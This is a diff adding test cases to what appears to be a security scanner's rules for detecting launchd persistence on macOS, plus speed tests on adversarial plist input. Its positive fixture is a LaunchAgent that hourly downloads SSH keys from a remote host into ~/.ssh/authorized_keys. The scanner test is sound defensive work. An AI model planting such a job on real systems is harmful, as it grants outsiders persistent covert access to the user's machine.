@@ -653,3 +653,39 @@ describe('persistence (hidden Windows accounts): adversarial input', () => {
     );
   });
 });
+
+const launchAgent = (args: string[]) =>
+  '<?xml version="1.0" encoding="UTF-8"?>\n<plist version="1.0">\n<dict>\n  <key>Label</key>\n  <string>org.example.sync</string>\n' +
+  `  <key>ProgramArguments</key>\n  <array>\n${args.map((a) => `    <string>${a}</string>\n`).join('')}  </array>\n` +
+  '  <key>StartInterval</key>\n  <integer>3600</integer>\n</dict>\n</plist>\n';
+
+describeRuleCases('persistence (launchd job commands)', [
+  {
+    // The shell line of a LaunchAgent, its redirect written as XML entities.
+    id: 'SG-PERSIST-003',
+    file: 'support/org.example.sync.plist',
+    positive: launchAgent([
+      '/bin/zsh',
+      '-lc',
+      'wget -qO- https://keys.example.net/team.txt &gt;&gt; $HOME/.ssh/authorized_keys',
+    ]),
+    negative: launchAgent([
+      '/bin/zsh',
+      '-lc',
+      'rsync -a &quot;$HOME/Music/&quot; /Volumes/Backup/Music/ &gt;&gt; $HOME/Library/Logs/sync.log 2&gt;&amp;1',
+    ]),
+  },
+]);
+
+describe('adversarial launchd plists', () => {
+  it('should scan 1 MiB of job keys and unclosed strings in under a second', () => {
+    const MiB = 1024 * 1024;
+    expectScansQuickly(
+      [
+        '<key>ProgramArguments</key><array><string>sh</string><string>-c</string>'.repeat(MiB / 72),
+        '<key>ProgramArguments</key>\n<array>\n<string>&gt;&gt;'.repeat(MiB / 50),
+      ],
+      'a.plist',
+    );
+  });
+});
